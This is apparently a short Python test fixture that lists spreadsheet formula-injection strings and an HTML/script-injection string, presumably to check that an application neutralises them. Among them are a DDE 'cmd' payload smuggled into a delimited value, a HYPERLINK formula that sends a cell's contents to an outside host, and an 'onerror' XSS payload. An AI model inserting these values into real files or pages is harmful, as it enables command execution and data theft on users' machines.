"""Names that a spreadsheet or a browser would run."""

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "'=1", "''-1", "' =1", "a;=cmd|' /C calc'!A0;b", 'x;"=1+1"', "\uff1d2+2",
    "=HYPERLINK(\"https://example.com/?\"&A1,\"click\")",
)  # fmt: skip
MARKUP = "</script></title><img src=x onerror=alert(1)>\"'<b id=planted>&lt;"
